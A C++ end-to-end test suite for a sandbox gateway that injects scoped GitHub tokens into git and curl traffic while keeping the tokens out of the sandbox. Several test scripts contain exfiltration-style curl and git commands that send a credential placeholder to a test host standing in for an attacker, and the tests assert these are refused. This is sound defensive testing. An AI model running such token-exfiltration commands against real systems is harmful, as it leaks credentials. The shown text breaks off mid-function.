// Credentials end to end (issue 11): an agent in a sandbox made by the real sandgate-launch,
// with no proxy settings and no token in its environment, runs the real git against a
// private repository served by the real `git http-backend` behind TLS on a test "internet"
// (a network namespace of this test's own), which demands Basic `x-access-token:TOKEN` as
// GitHub does. The token is a github_app one, minted by a fake GitHub API that checks the
// app's JWT and records the scope each sandbox's rules ask for. The origin also refuses what a
// token's scope does not cover, the way GitHub does, so a push outside the sandbox's
// repository is refused in git's own words. Placeholders from inside the sandbox: replaced
// where bound, a tripwire elsewhere (header and body). The same git through the explicit
// proxy (CONNECT).
//
// The binary re-runs itself under `unshare --net` first (see main), as sandbox_e2e_test does.
#include <fcntl.h>
#include <sched.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <boost/json.hpp>
#include <cstdlib>
#include <exception>
#include <filesystem>
#include <fstream>
#include <map>
#include <mutex>
#include <optional>
#include <set>
#include <thread>

#include "e2e_support.hpp"
#include "gtest/gtest.h"
#include "secrets/encoding.hpp"
#include "secrets/placeholder.hpp"
#include "support/compress.hpp"
#include "support/fake_token_server.hpp"
#include "support/git_origin.hpp"
#include "support/github_app_key.hpp"
#include "support/http_origin.hpp"
#include "support/json_helpers.hpp"
#include "support/private_netns.hpp"
#include "support/sandgate_process.hpp"
#include "support/subprocess.hpp"
#include "support/temp_dir.hpp"

namespace sandgate::test {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

constexpr const char* kInsideEnv = "SANDGATE_CREDS_E2E_INSIDE";
constexpr const char* kGitAddress = "203.0.113.11";      // git.test and api.test
constexpr const char* kCollectAddress = "203.0.113.12";  // collect.test: no credential bound
constexpr const char* kAppId = "4242";
constexpr const char* kExplicitId = "explicit-agent";
constexpr const char* kExplicitToken = "tok-explicit-agent-Qe4";
const std::string kPlaceholderKey(32, '\x4c');

// The fake GitHub: its API mints installation tokens (after checking the app's JWT), and its
// git and REST hosts accept them within each token's repositories only. Thread-safe: the
// token endpoint and the origin call it from their own threads.
class FakeGithub {
 public:
  explicit FakeGithub(const TempDir& dir, std::string repos_root)
      : key_(dir), backend_(git_http_backend(std::move(repos_root))) {}

  const AppKey& key() const { return key_; }

  // POST /app/installations/99/access_tokens, as GitHub answers it.
  TokenResponse mint(const TokenRequest& r) {
    TokenResponse out;
    const auto auth = r.headers.find("authorization");
    const boost::json::value claims =
        auth != r.headers.end() && auth->second.rfind("Bearer ", 0) == 0
            ? key_.verify(auth->second.substr(7))
            : boost::json::value(nullptr);
    if (!claims.is_object()) {
      out.status = 401;
      out.body = R"({"message":"A JSON web token could not be decoded"})";
      return out;
    }
    const auto& c = claims.as_object();
    const bool claims_ok =
        c.contains("iss") && c.contains("iat") && c.contains("exp") &&
        boost::json::serialize(c.at("iss")).find(kAppId) != std::string::npos &&
        c.at("exp").to_number<std::int64_t>() - c.at("iat").to_number<std::int64_t>() <= 600;
    if (!claims_ok || r.method != "POST" || r.target != "/app/installations/99/access_tokens") {
      out.status = claims_ok ? 404 : 401;
      out.body = R"({"message":"Not Found"})";
      return out;
    }
    std::set<std::string> repos;
    boost::system::error_code ec;
    const boost::json::value body = boost::json::parse(r.body, ec);
    if (!ec && body.is_object() && body.as_object().contains("repositories")) {
      for (const auto& name : body.as_object().at("repositories").as_array()) {
        repos.insert("acme/" + std::string(name.as_string()));
      }
    }
    const std::lock_guard lock(mutex_);
    std::string token = "ghs_E2E" + std::to_string(++minted_) + "x";
    for (const auto& repo : repos) token += repo.substr(5);
    token.resize(40, 'Z');
    tokens_[token] = repos;
    out.status = 201;
    out.body = R"({"token":")" + token +
               R"(","expires_at":"2099-01-01T00:00:00Z","repository_selection":"selected"})";
    return out;
  }

  // git.test (git over smart HTTP, Basic x-access-token:TOKEN) and api.test (Bearer).
  OriginReply serve(const RecordedRequest& r) {
    const std::string auth = r.header("Authorization");
    {
      const std::lock_guard lock(mutex_);
      authorizations_.push_back(auth);
    }
    std::string host = r.header("Host");
    host = host.substr(0, host.find(':'));
    if (host == "api.test") {
      const auto repos = token_repos(auth.rfind("Bearer ", 0) == 0 ? auth.substr(7) : "");
      if (!repos) return OriginReply::with_length(401, R"({"message":"Bad credentials"})");
      // A hostile echo, as httpbin's /gzip and /brotli are: the request's Authorization sent
      // back compressed whatever Accept-Encoding said, or with every byte percent-escaped.
      const std::string echo = R"({"authorization":")" + auth + "\"}\n";
      if (r.target == "/echo/gzip" || r.target == "/echo/br") {
        const bool gzip = r.target == "/echo/gzip";
        return OriginReply::with_length(
            200, gzip ? gzip_encode(echo) : brotli_encode(echo),
            {{"Content-Type", "application/json"}, {"Content-Encoding", gzip ? "gzip" : "br"}});
      }
      if (r.target == "/echo/percent") {
        std::string escaped;
        for (const unsigned char c : auth) {
          constexpr char kHex[] = "0123456789ABCDEF";
          escaped += {'%', kHex[c >> 4], kHex[c & 0xf]};
        }
        return OriginReply::with_length(200, "auth=" + escaped + "\n");
      }
      return OriginReply::with_length(200,
                                      R"({"login":"sandgate-e2e[bot]"})"
                                      "\n",
                                      {{"Content-Type", "application/json"}});
    }
    // "/acme/widgets.git/info/refs?service=..." -> "acme/widgets"
    const std::string path = r.target.substr(0, r.target.find('?'));
    const std::size_t git = path.find(".git/");
    const std::string repo = git == std::string::npos ? "" : path.substr(1, git - 1);
    const std::string basic = auth.rfind("Basic ", 0) == 0 ? base64_decode(auth.substr(6)) : "";
    const std::string user = "x-access-token:";
    const auto repos =
        basic.rfind(user, 0) == 0 ? token_repos(basic.substr(user.size())) : std::nullopt;
    const std::vector<std::pair<std::string, std::string>> text = {
        {"Content-Type", "text/plain; charset=utf-8"}};
    if (!repos) {
      auto headers = text;
      headers.emplace_back("WWW-Authenticate", R"(Basic realm="GitHub")");
      return OriginReply::with_length(401, "Invalid username or token.\n", headers);
    }
    if (!repos->contains(repo)) {
      const bool push = r.target.find("git-receive-pack") != std::string::npos;
      if (push) {
        return OriginReply::with_length(
            403, "Permission to " + repo + ".git denied to sandgate-e2e[bot].\n", text);
      }
      return OriginReply::with_length(404, "Repository not found.\n", text);
    }
    return backend_(r);
  }

  std::vector<std::string> authorizations() const {
    const std::lock_guard lock(mutex_);
    return authorizations_;
  }
  // The token minted for exactly these repositories ("" when none was).
  std::string token_for(const std::set<std::string>& repos) const {
    const std::lock_guard lock(mutex_);
    for (const auto& [token, scope] : tokens_) {
      if (scope == repos) return token;
    }
    return {};
  }
  std::vector<std::string> tokens() const {
    const std::lock_guard lock(mutex_);
    std::vector<std::string> out;
    for (const auto& [token, scope] : tokens_) out.push_back(token);
    return out;
  }

 private:
  std::optional<std::set<std::string>> token_repos(const std::string& token) const {
    const std::lock_guard lock(mutex_);
    const auto it = tokens_.find(token);
    if (it == tokens_.end()) return std::nullopt;
    return it->second;
  }

  AppKey key_;
  std::function<OriginReply(const RecordedRequest&)> backend_;
  mutable std::mutex mutex_;
  int minted_ = 0;
  std::map<std::string, std::set<std::string>> tokens_;
  std::vector<std::string> authorizations_;
};

// The test internet (git.test, api.test, collect.test), the fake GitHub and the daemon: set up
// once for the suite.
struct World {
  TempDir dir;
  std::string internet = "sgc" + std::to_string(::getpid()) + "i";
  std::string repos = dir.file("repos");
  FakeGithub github{dir, repos};
  FakeTokenServer api{[this](const TokenRequest& r) { return github.mint(r); }};
  const TestCertificate cert =
      make_self_signed_certificate({"git.test", "api.test", "collect.test"}, {});
  std::unique_ptr<HttpOrigin> origin;   // git.test, api.test
  std::unique_ptr<HttpOrigin> collect;  // collect.test: records what an exfiltration sends
  std::unique_ptr<SandgateProcess> daemon;

  World() {
    try {
      for (const std::string repo : {"widgets", "gadgets"}) {
        const std::string made =
            make_bare_repository(repos + "/acme/" + repo + ".git", "README", repo + "\n");
        if (!made.empty()) throw std::runtime_error(made);
      }
      must({sandgate_binary(), "ca", "init", dir.file("sandgate-ca")});
      dir.write("origin-ca.pem", cert.cert_pem);
      dir.write("placeholder.key", kPlaceholderKey);
      ::chmod(dir.file("placeholder.key").c_str(), 0600);
      make_internet();
      start_daemon();
    } catch (...) {
      clean_up();
      throw;
    }
  }
  ~World() { clean_up(); }

  void clean_up() {
    if (daemon) {
      const std::string config = daemon->config_path();
      run_command({launch_binary(), "--config", config, "gc"}, 60s);
      daemon.reset();
    }
    origin.reset();
    collect.reset();
    run_command({"ip", "netns", "del", internet});
  }

  void make_internet() {
    const std::string& n = internet;
    make_test_internet(n, {kGitAddress, kCollectAddress});
    must({"ip", "route", "add", "203.0.113.0/24", "via", "192.0.2.2"});
    in_netns(n, [&] {
      origin = std::make_unique<HttpOrigin>(kGitAddress, 443, cert);
      collect = std::make_unique<HttpOrigin>(kCollectAddress, 443, cert);
    });
    origin->set_handler([this](const RecordedRequest& r) { return github.serve(r); });
    // Asks for credentials, as a phishing host would: git then sends what its credential
    // helper or the URL holds.
    collect->set_handler([](const RecordedRequest&) {
      return OriginReply::with_length(401, "who are you?\n",
                                      {{"WWW-Authenticate", R"(Basic realm="collect")"}});
    });
  }

  static std::string inject(const std::string& profile, const std::string& repo) {
    return "[[profiles." + profile +
           ".inject]]\nhosts = [\"git.test\"]\ncredential = \"gh\"\nas = \"basic\"\n"
           "user = \"x-access-token\"\nrepositories = [\"" +
           repo + "\"]\n\n[[profiles." + profile +
           ".inject]]\nhosts = [\"api.test\"]\ncredential = \"gh\"\nas = \"bearer\"\n"
           "repositories = [\"" +
           repo + "\"]\n\n";
  }

  // A deny rule before a broad allow on api.test (paths without case, as GitHub's owners and
  // repositories are), and git rules that let acme/widgets be fetched and nothing else.
  static std::string ruled_rules() {
    return "[[profiles.ruled.http_rules]]\nhosts = [\"api.test\"]\nmethods = [\"DELETE\"]\n"
           "paths = [\"/repos/acme/prod/**\"]\npath_case = \"insensitive\"\naction = \"deny\"\n\n"
           "[[profiles.ruled.http_rules]]\nhosts = [\"api.test\"]\naction = \"allow\"\n\n"
           "[[profiles.ruled.git]]\nrepos = [\"git.test/acme/widgets\"]\nallow = [\"fetch\"]\n\n"
           "[[profiles.ruled.git]]\nrepos = [\"git.test/**\"]\nallow = []\n\n";
  }

  void start_daemon() {
    fs::create_directories(dir.file("sandboxes.d"));
    SandgateOptions o;
    o.workers = 2;
    o.audit_to_file = true;
    o.sandboxes_dir = dir.file("sandboxes.d");
    o.admin_listen = "127.0.0.1:9090";
    o.listeners = "transparent = [\"0.0.0.0:15001\"]\ndns = [\"0.0.0.0:15053\"]";
    const std::string profile =
        "allow = [\"git.test\", \"api.test\", \"collect.test\"]\n"
        "inspect = [\"collect.test\"]\n"
        "allow_cidrs = [\"203.0.113.0/24\"]\n\n";
    o.tables =
        "[limits]\npeek_timeout_ms = 300\nidle_timeout_ms = 20000\n\n"
        "[dns.hosts]\n\"git.test\" = [\"" +
        std::string(kGitAddress) + "\"]\n\"api.test\" = [\"" + kGitAddress +
        "\"]\n\"collect.test\" = [\"" + kCollectAddress +
        "\"]\n\n"
        "[interception]\nca_cert = \"" +
        dir.file("sandgate-ca/ca.pem") + "\"\nca_key = \"" + dir.file("sandgate-ca/ca.key") +
        "\"\nupstream_ca_file = \"" + dir.file("origin-ca.pem") +
        "\"\n\n"
        "[launcher]\nstate_dir = \"" +
        dir.file("state") +
        "\"\npool = \"10.201.0.0/24\"\n\n"
        "[credentials]\nplaceholder_key_file = \"" +
        dir.file("placeholder.key") +
        "\"\n\n"
        "[credentials.gh]\nprovider = \"github_app\"\napp_id = " +
        kAppId + "\nprivate_key_file = \"" + github.key().path +
        "\"\ninstallation_id = 99\napi_url = \"" + api.url() + "\"\nca_file = \"" + api.ca_file() +
        "\"\nenv = [\"GH_TOKEN\", \"GITHUB_TOKEN\"]\n\n"
        "[profiles.agent]\n" +
        profile + inject("agent", "acme/widgets") + "[profiles.gadgets]\n" + profile +
        inject("gadgets", "acme/gadgets") + "[profiles.plain]\n" + profile + "[profiles.ruled]\n" +
        profile + inject("ruled", "acme/widgets") + ruled_rules() + "[sandboxes." + kExplicitId +
        "]\nprofile = \"agent\"\ntoken = \"" + kExplicitToken + "\"\n";
    daemon = std::make_unique<SandgateProcess>(o);
  }
};

World* world = nullptr;

class CredentialsE2e : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::getenv(kInsideEnv) == nullptr) return;
    world = new World();
  }
  static void TearDownTestSuite() {
    delete world;
    world = nullptr;
  }
  void SetUp() override {
    ASSERT_NE(world, nullptr) << "run through main(): the suite needs its private namespace";
    audit_from_ = world->daemon->audit_lines().size();
    authorizations_from_ = world->github.authorizations().size();
  }

  static std::string id(const std::string& name) {
    return "cred-" + std::to_string(::getpid()) + "-" + name;
  }

  // `sandgate-launch run` with a shell script, from an environment that has an operator's
  // own GH_TOKEN and GITHUB_TOKEN (which must not get in).
  static CommandResult run_in(const std::string& sandbox, const std::string& profile,
                              const std::string& script) {
    return run_command({"env", "GH_TOKEN=ghp_the_operators_own_token",
                        "GITHUB_TOKEN=ghp_the_operators_other_token", launch_binary(), "--config",
                        world->daemon->config_path(), "run", "--sandbox", id(sandbox), "--profile",
                        profile, "--", "sh", "-c", script},
                       90s);
  }

  std::vector<boost::json::object> audit(const std::string& code) const {
    return audit_lines_since(*world->daemon, audit_from_, code);
  }
  // The token requests of the whole suite whose `repositories` are `repositories` (JSON).
  static std::vector<TokenRequest> mints_for(const std::string& repositories) {
    std::vector<TokenRequest> out;
    for (const TokenRequest& r : world->api.requests()) {
      boost::system::error_code ec;
      const boost::json::value body = boost::json::parse(r.body, ec);
      if (!ec && body.is_object() && body.as_object().contains("repositories") &&
          boost::json::serialize(body.at("repositories")) == repositories) {
        out.push_back(r);
      }
    }
    return out;
  }
  static std::string head_of(const std::string& repo) {
    return run_command({"git", "--git-dir", world->repos + "/" + repo, "rev-parse", "main"}).out;
  }
  static std::string placeholder(const std::string& sandbox) {
    return secrets::PlaceholderKey::from_bytes(kPlaceholderKey).placeholder_for(sandbox, "gh");
  }
  // No minted token in any output sandgate or the sandbox made.
  static void expect_no_token_in(const std::string& what, const std::string& text) {
    for (const std::string& token : world->github.tokens()) {
      EXPECT_EQ(text.find(token), std::string::npos) << what << " holds a token";
      EXPECT_EQ(text.find(secrets::base64("x-access-token:" + token)), std::string::npos)
          << what << " holds the Basic form of a token";
    }
  }
  static void expect_no_token_anywhere() {
    expect_no_token_in("the audit log", world->daemon->audit_text());
    expect_no_token_in("the daemon's stderr", world->daemon->stderr_text());
    expect_no_token_in("the metrics", world->daemon->metrics_text());
  }

  // What the fake GitHub's origin received since the test began (its Authorization values).
  std::vector<std::string> authorizations() const {
    const auto all = world->github.authorizations();
    return {all.begin() + static_cast<std::ptrdiff_t>(authorizations_from_), all.end()};
  }

  std::size_t audit_from_ = 0;
  std::size_t authorizations_from_ = 0;
};

// The headline: git clone and push of a private repository from a launched sandbox that never
// holds the token; the token minted for the sandbox's repository only; a push elsewhere is
// refused by the origin in git's own words, because the token cannot do it.
TEST_F(CredentialsE2e, GitCloneAndPushFromASandboxThatNeverHoldsTheToken) {
  const std::string work = world->dir.file("git-work");
  fs::create_directories(work);
  const std::string before_gadgets = head_of("acme/gadgets.git");
  const auto r =
      run_in("git", "agent",
             "cd " + work + " && export HOME=" + work +
                 " GIT_TERMINAL_PROMPT=0; env > env.txt; "
                 "git clone https://git.test/acme/widgets.git widgets > clone.out 2>&1; "
                 "echo clone=$?; cd widgets && echo 'agent was here' > CHANGE && git add CHANGE && "
                 "git -c user.name=agent -c user.email=agent@example.test commit -q -m change && "
                 "git rev-parse HEAD > ../head.txt; "
                 "git push origin main > ../push.out 2>&1; echo push=$?; "
                 "git push https://git.test/acme/gadgets.git main > ../gadgets.out 2>&1; "
                 "echo gadgets=$?");
  const std::string clone_out = read_file(work + "/clone.out");
  const std::string push_out = read_file(work + "/push.out");
  const std::string gadgets_out = read_file(work + "/gadgets.out");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("clone=0\n"), std::string::npos) << r.out << clone_out;
  EXPECT_NE(r.out.find("push=0\n"), std::string::npos) << r.out << push_out;
  // The push landed: the origin's main is the sandbox's commit.
  const std::string head = read_file(work + "/head.txt");
  ASSERT_EQ(head.size(), 41u) << head;
  EXPECT_EQ(head_of("acme/widgets.git"), head);
  EXPECT_EQ(read_file(work + "/widgets/README"), "widgets\n");

  // The push outside the sandbox's repository: refused by the origin (the token cannot do it),
  // which git prints as the remote's message; nothing changed there.
  EXPECT_EQ(r.out.find("gadgets=0\n"), std::string::npos) << r.out;
  EXPECT_NE(gadgets_out.find("remote: Permission to acme/gadgets.git denied"), std::string::npos)
      << gadgets_out;
  EXPECT_EQ(head_of("acme/gadgets.git"), before_gadgets);

  // One mint (in the whole suite: the token is cached), with the app's JWT, for acme/widgets
  // only.
  const auto minted = mints_for(R"(["widgets"])");
  ASSERT_EQ(minted.size(), 1u);
  EXPECT_EQ(minted[0].target, "/app/installations/99/access_tokens");
  EXPECT_TRUE(
      world->github.key().verify(minted[0].headers.at("authorization").substr(7)).is_object());
  const boost::json::value scope = boost::json::parse(minted[0].body);
  EXPECT_EQ(boost::json::serialize(scope.at("repositories")), R"(["widgets"])") << minted[0].body;
  const std::string token = world->github.token_for({"acme/widgets"});
  ASSERT_FALSE(token.empty());

  // Every request the origin saw carried the minted token (sandgate's header), never the
  // placeholder nor the operator's own token.
  const std::string basic = "Basic " + secrets::base64("x-access-token:" + token);
  const auto seen = authorizations();
  ASSERT_FALSE(seen.empty());
  for (const auto& auth : seen) EXPECT_EQ(auth, basic);

  // The sandbox: no proxy settings, GH_TOKEN is its placeholder, no token anywhere it could
  // read (environment, git's output and config).
  const std::string env = read_file(work + "/env.txt");
  EXPECT_EQ(env.find("_proxy="), std::string::npos) << env;
  EXPECT_EQ(env.find("_PROXY="), std::string::npos) << env;
  EXPECT_NE(env.find("GH_TOKEN=" + placeholder(id("git")) + "\n"), std::string::npos) << env;
  EXPECT_EQ(env.find("ghp_the_operators_own_token"), std::string::npos) << env;
  expect_no_token_in("the sandbox's environment", env);
  expect_no_token_in("git's output", r.out + r.err + clone_out + push_out + gadgets_out);
  expect_no_token_in("the clone's git config", read_file(work + "/widgets/.git/config"));
  expect_no_token_anywhere();

  // The audit lines name the credential and the token's fingerprint, for the push too.
  const auto lines = audit("http_request");
  bool pushed = false;
  for (const auto& line : lines) {
    EXPECT_EQ(json_string(line, "credential.name"), "gh") << boost::json::serialize(line);
    EXPECT_EQ(json_string(line, "credential.fingerprint"), secrets::fingerprint(token));
    EXPECT_EQ(json_string(line, "labels.sandbox_id"), id("git"));
    pushed = pushed || (json_string(line, "url.path") == "/acme/widgets.git/git-receive-pack" &&
                        json_int(line, "http.response.status_code") == 200);
  }
  EXPECT_TRUE(pushed) << world->daemon->audit_text();
}

// Two sandboxes on profiles scoped to different repositories hold different tokens: the
// gadgets agent pushes to gadgets, with a token minted for gadgets alone.
TEST_F(CredentialsE2e, ASandboxScopedToAnotherRepositoryGetsItsOwnToken) {
  const std::string work = world->dir.file("gadgets-work");
  fs::create_directories(work);
  const auto r = run_in("gadgets", "gadgets",
                        "cd " + work + " && export HOME=" + work +
                            " GIT_TERMINAL_PROMPT=0; "
                            "git clone -q https://git.test/acme/gadgets.git g 2>&1; cd g && "
                            "echo x > X && git add X && git -c user.name=a -c "
                            "user.email=a@example.test commit -q -m x && git push -q origin "
                            "main 2>&1; echo push=$?; git rev-parse HEAD");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("push=0\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find(head_of("acme/gadgets.git")), std::string::npos) << r.out;
  EXPECT_EQ(mints_for(R"(["gadgets"])").size(), 1u);
  const std::string gadgets = world->github.token_for({"acme/gadgets"});
  ASSERT_FALSE(gadgets.empty());
  EXPECT_NE(gadgets, world->github.token_for({"acme/widgets"}));
  const auto seen = authorizations();
  ASSERT_FALSE(seen.empty());
  for (const auto& auth : seen) {
    EXPECT_EQ(auth, "Basic " + secrets::base64("x-access-token:" + gadgets));
  }
  for (const auto& line : audit("http_request")) {
    EXPECT_EQ(json_string(line, "credential.fingerprint"), secrets::fingerprint(gadgets));
  }
  expect_no_token_in("git's output", r.out + r.err);
  expect_no_token_anywhere();
}

// THREATS 13 from inside a launched sandbox: the placeholder in GH_TOKEN is replaced by the
// real token on the host its credential is bound to, and refused (403 placeholder_misuse,
// audited) on another, in a header (HTTP/2, curl's default) and in a body (HTTP/1.1);
// collect.test receives nothing of it.
TEST_F(CredentialsE2e, ThePlaceholderIsReplacedWhereBoundAndATripwireElsewhere) {
  const auto r =
      run_in("ph", "agent",
             "echo \"$GH_TOKEN\"; "
             "curl -sS -m 10 -H \"Authorization: Bearer $GH_TOKEN\" https://api.test/user; "
             "curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' -H \"X-Token: $GH_TOKEN\" "
             "https://collect.test/header; "
             // HTTP/1.1: request bodies over HTTP/2 are not scanned yet (credentials.md).
             "curl -sS -m 10 --http1.1 -o /dev/null -w '%{http_code}\\n' "
             "--data \"t=$GH_TOKEN\" https://collect.test/body; "
             "curl -sS -m 10 -H \"X-Token: $GH_TOKEN\" https://collect.test/header; echo; "
             "curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' -u \"x-access-token:$GH_TOKEN\" "
             "https://collect.test/basic; "
             "GIT_TERMINAL_PROMPT=0 git ls-remote "
             "\"https://x-access-token:$GH_TOKEN@collect.test/acme/widgets.git\" 2>&1; "
             "echo ls-remote=$?");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const std::string mine = placeholder(id("ph"));
  EXPECT_EQ(r.out.substr(0, r.out.find('\n')), mine);
  EXPECT_NE(r.out.find("\n{\"login\":\"sandgate-e2e[bot]\"}\n403\n403\n"), std::string::npos)
      << r.out << r.err;
  EXPECT_NE(r.out.find("\"reason\":\"placeholder_misuse\""), std::string::npos) << r.out;

  // api.test got the real token, never the placeholder.
  const std::string token = world->github.token_for({"acme/widgets"});
  ASSERT_FALSE(token.empty());
  const auto seen = authorizations();
  ASSERT_FALSE(seen.empty());
  EXPECT_EQ(seen.back(), "Bearer " + token);
  for (const auto& auth : seen) EXPECT_EQ(auth.find(mine), std::string::npos);
  // Basic credentials holding it (curl -u; git with it in the URL, after collect.test's
  // 401): refused too, and git prints sandgate's refusal as the remote's error.
  EXPECT_NE(r.out.find("\n403\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("remote error: sandgate: SANDBOX_NETWORK_DENIED: collect.test is refused "
                       "to sandbox " +
                       id("ph") + " (placeholder_misuse, rule credentials.gh)"),
            std::string::npos)
      << r.out;
  EXPECT_EQ(r.out.find("ls-remote=0"), std::string::npos) << r.out;
  // collect.test: only git's first request, which carries no credential; not a byte of the
  // placeholder, in any form.
  EXPECT_EQ(world->collect->request_count(), 1u);
  const std::string received = world->collect->raw_received();
  EXPECT_EQ(received.find("sgph_"), std::string::npos) << received;
  EXPECT_EQ(received.find(secrets::base64("x-access-token:" + mine)), std::string::npos);
  EXPECT_EQ(received.find("Authorization"), std::string::npos) << received;

  const auto denied = audit("SANDBOX_NETWORK_DENIED");
  ASSERT_EQ(denied.size(), 5u) << world->daemon->audit_text();
  for (const auto& line : denied) {
    EXPECT_EQ(json_string(line, "event.reason"), "placeholder_misuse");
    EXPECT_EQ(json_string(line, "rule.name"), "credentials.gh");
    EXPECT_EQ(json_string(line, "destination.address"), "collect.test");
    EXPECT_EQ(json_string(line, "labels.sandbox_id"), id("ph"));
  }
  EXPECT_EQ(world->daemon->audit_text().find(mine), std::string::npos);
  expect_no_token_in("the sandbox's output", r.out + r.err);
  expect_no_token_anywhere();
}

// THREATS 30 and 32 from inside a launched sandbox (the transparent listener): api.test echoes
// the request's Authorization, with the real token sandgate put there, gzip'd or brotli'd
// whatever the client accepted, or percent-escaped byte by byte. The sandbox reads each echo
// decoded, with the token redacted, over HTTP/2 and HTTP/1.1. Control: the rest of each echo
// arrives as the origin sent it (the decoded JSON, the escaped "Bearer ").
TEST_F(CredentialsE2e, EchoesOfTheTokenComeBackRedactedHoweverTheyAreEncoded) {
  const auto r = run_in("echo", "agent",
                        "for v in --http2 --http1.1; do for p in gzip br percent; do "
                        "curl -sS -m 10 $v --compressed -H \"Authorization: Bearer $GH_TOKEN\" "
                        "https://api.test/echo/$p; done; done");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto count = [&](const std::string& text) {
    std::size_t n = 0;
    for (std::size_t at = r.out.find(text); at != std::string::npos;
         at = r.out.find(text, at + 1)) {
      ++n;
    }
    return n;
  };
  // The redactor masks in place, byte for byte (the token is 40 bytes; escaped, 120).
  EXPECT_EQ(count("{\"authorization\":\"Bearer " + std::string(40, '*') + "\"}\n"), 4u) << r.out;
  EXPECT_EQ(count("auth=%42%65%61%72%65%72%20" + std::string(120, '*') + "\n"), 2u) << r.out;
  EXPECT_EQ(r.out.find("sgph_"), std::string::npos) << "the placeholder never went out: " << r.out;
  expect_no_token_in("the sandbox's output", r.out + r.err);
  expect_no_token_anywhere();
  // The token did reach api.test, for every one of the six requests.
  const std::string token = world->github.token_for({"acme/widgets"});
  const auto seen = authorizations();
  EXPECT_EQ(std::count(seen.begin(), seen.end(), "Bearer " + token), 6);
}

// THREATS 33 and the rule-case holes from inside a launched sandbox: the deny rule holds for
// every spelling of the owner, the method and an override field, and a dumb-HTTP fetch of a
// repository the git rules refuse is refused (git's own error for git). Controls: GET on the
// same path, and the one repository the rules allow, reach the origin.
TEST_F(CredentialsE2e, RulesHoldForEverySpellingFromALaunchedSandbox) {
  const auto r =
      run_in("ruled", "ruled",
             "code() { curl -sS -m 10 -o /dev/null -w '%{http_code} ' \"$@\"; }; "
             "code -X DELETE https://api.test/repos/ACME/prod/x; "
             "code -X delete https://api.test/repos/acme/PROD/x; "
             "code --http1.1 -X DeLeTe https://api.test/repos/acme/prod/x; "
             "code -X POST -H 'X-HTTP-Method-Override: DELETE' https://api.test/repos/acme/prod/x; "
             "code https://git.test/acme/gadgets.git/info/refs; "
             "code https://git.test/acme/gadgets.git/objects/info/packs; "
             "echo; code https://api.test/repos/acme/prod/x; "
             "code 'https://git.test/acme/widgets.git/info/refs?service=git-upload-pack'; echo; "
             "GIT_TERMINAL_PROMPT=0 git ls-remote https://git.test/acme/gadgets.git 2>&1; "
             "echo ls-remote=$?");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("403 403 403 403 403 403 \n200 200 \n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("remote error: sandgate: SANDBOX_NETWORK_DENIED"), std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("ls-remote=128"), std::string::npos) << r.out;
  const auto denied = audit("SANDBOX_NETWORK_DENIED");
  ASSERT_EQ(denied.size(), 7u) << world->daemon->audit_text();
  std::size_t by_http_rule = 0;
  for (const auto& line : denied) {
    EXPECT_EQ(json_string(line, "labels.sandbox_id"), id("ruled"));
    if (json_string(line, "event.reason") == "denied_by_http_rule") ++by_http_rule;
  }
  EXPECT_EQ(by_http_rule, 4u);
}

// Issue 35 item 8 from inside a launched sandbox: fields that belong to the proxy hop
// (Proxy-Authorization, Proxy-Connection, Keep-Alive, TE other than trailers) never reach the
// origin, over HTTP/2 and HTTP/1.1. Control: an ordinary field does.
TEST_F(CredentialsE2e, ProxyOnlyFieldsNeverLeaveALaunchedSandbox) {
  const std::size_t before = world->collect->raw_received().size();
  const auto r = run_in("hop", "plain",
                        "for v in --http2 --http1.1; do curl -sS -m 10 -o /dev/null "
                        "-w '%{http_code} ' $v -H 'Proxy-Authorization: Basic c2I6dG9r' "
                        "-H 'Proxy-Connection: keep-alive' -H 'X-Ordinary: kept' "
                        "https://collect.test/hop; done");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "401 401 ") << r.err;
  const std::string received = world->collect->raw_received().substr(before);
  std::size_t ordinary = 0;
  for (std::size_t at = received.find("kept"); at != std::string::npos;
       at = received.find("kept", at + 1)) {
    ++ordinary;
  }
  EXPECT_EQ(ordinary, 2u) << received;
  for (const char* hop : {"c2I6dG9r", "roxy-", "Proxy-Authorization", "proxy-connection"}) {
    EXPECT_EQ(received.find(hop), std::string::npos) << hop << " reached the origin: " << received;
  }
}

// THREATS 34: a sandbox whose rules name no credential gets none of a credential's variables
// from the launcher's environment (a CI shell's real GH_TOKEN and GITHUB_TOKEN): they are
// unset in it. The control, a sandbox whose rules name the credential, has its placeholder in
// both.
TEST_F(CredentialsE2e, CredentialVariablesOfTheLauncherNeverReachASandbox) {
  const std::string script = "env | grep -E '^(GH_TOKEN|GITHUB_TOKEN)=' | sort; echo end";
  const auto plain = run_in("plain", "plain", script);
  ASSERT_EQ(plain.exit_code, 0) << plain.err;
  EXPECT_EQ(plain.out, "end\n");
  EXPECT_EQ(plain.out.find("ghp_the_operators"), std::string::npos);

  const auto agent = run_in("named", "agent", script);
  ASSERT_EQ(agent.exit_code, 0) << agent.err;
  const std::string mine = placeholder(id("named"));
  EXPECT_EQ(agent.out, "GH_TOKEN=" + mine + "\nGITHUB_TOKEN=" + mine + "\nend\n");
}

// The same git through the explicit proxy (CONNECT, a sandbox named by Proxy-Authorization),
// from a client with no credential either.
TEST_F(CredentialsE2e, GitThroughTheExplicitProxyGetsTheCredentialToo) {
  const std::string work = world->dir.file("explicit-work");
  fs::create_directories(work);
  const auto git = [&](std::vector<std::string> args) {
    std::vector<std::string> argv = {
        "env",
        "-i",
        "PATH=/usr/bin:/bin",
        "GIT_TERMINAL_PROMPT=0",
        "HOME=" + work,
        "GIT_SSL_CAINFO=" + world->dir.file("sandgate-ca/ca.pem"),
        "git",
        "-c",
        "http.proxy=" + world->daemon->proxy_url(kExplicitId, kExplicitToken),
        "-c",
        "http.proxyAuthMethod=basic",
        "-c",
        "user.name=e",
